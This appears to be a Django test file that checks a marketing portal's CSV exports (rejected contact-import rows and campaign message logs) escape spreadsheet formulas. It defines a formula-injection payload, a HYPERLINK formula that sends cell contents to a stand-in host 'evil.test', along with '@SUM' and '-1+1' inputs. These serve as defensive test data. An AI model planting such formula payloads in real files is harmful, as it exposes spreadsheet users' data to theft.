"""Files the portal writes (rejected import rows, campaign message exports) escape cells that
a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile

from campaigns.models import ImportJob, Message

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def test_rejected_rows_csv_escapes_formulas(marketer_client, world):
    content = f'Mobile,First Name\n+923001230001,Amina\n"{EVIL.replace(chr(34), chr(34) * 2)}",@SUM(A1)\n'.encode()
    upload = SimpleUploadedFile("contacts.csv", content, content_type="text/csv")
    job_url = marketer_client.post("/contacts/import/", {"file": upload})["Location"]
    marketer_client.post(job_url, {"col_0": "phone", "col_1": "first_name", "new_list": "", "region": ""})
    job = ImportJob.objects.get(account=world.account)
    assert job.status == "done" and job.rejected_count == 1, job.error
    report = marketer_client.get(f"/contacts/import/{job.pk}/rejects.csv")
    rows = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode())))
    assert rows[1][2:] == ["'" + EVIL, "'@SUM(A1)"]


def test_campaign_export_escapes_formulas(marketer_client, draft):
    Message.objects.create(
        account=draft.account,
        subaccount=draft.subaccount,
        campaign=draft,
        connection=draft.connection,
        to="+923001234567",
        error_message=EVIL,
        network="-1+1",
        status="failed",
    )
    response = marketer_client.get(f"/campaigns/{draft.pk}/messages.csv")
    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["error_message"] == "'" + EVIL and row["network"] == "'-1+1"
    assert row["to"] == "+923001234567"
